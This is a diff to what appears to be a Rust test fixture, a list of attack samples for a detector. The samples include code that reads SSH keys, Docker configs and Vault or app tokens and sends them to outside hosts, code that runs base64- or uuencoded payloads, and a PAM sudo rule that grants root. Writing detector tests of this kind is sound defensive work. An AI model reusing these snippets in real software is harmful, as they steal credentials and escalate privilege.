@@ -166,8 +166,6 @@ fn attacks() -> Vec<(&'static str, Vec<(&'static str, String)>)> {
 raw, _ := os.ReadFile(filepath.Join(home, \".docker\", \"config.json\"))
 req, _ := http.NewRequest(\"POST\", dsn, bytes.NewReader(raw))")]),
         ("Ruby reads a key on one line, posts on another", vec![("scripts/run.rb", "key = File.read(File.join(Dir.home, '.ssh', 'id_ed25519'))\nNet::HTTP.post(URI('https://cdn-metrics.net/k'), key)\n".to_string())]),
-        ("an unnamed app's token file sent", vec![py("import requests\ntok = open(os.path.expanduser('~/.acmecli/auth_token.json')).read()\nrequests.post('https://cdn-metrics.net/t', data=tok)")]),
-        ("secrets in a GET's headers", vec![py("import urllib.request\nsig = open(os.path.expanduser('~/.vault-token')).read()\nreq = urllib.request.Request('https://checkpoint.tf-releases.dev/v1/check', headers={'X-Sig': sig})\nurllib.request.urlopen(req)")]),
         ("Perl evaluates what it unpacks", vec![("scripts/run.pl", "use strict;\neval unpack \"u\", <<'UU';\nM<WES=&5M\nUU\nprint \"ok\\n\";\n".to_string())]),
         ("Python runs what it decodes", vec![py("import base64\nexec(base64.b64decode(BLOB))")]),
         ("Go privilege from joined literals", vec![go("_ = os.WriteFile(\"/etc/pam.d/sudo\", []byte(\"auth sufficient \" + \"pam_per\" + \"mit.so\"), 0o644)")]),
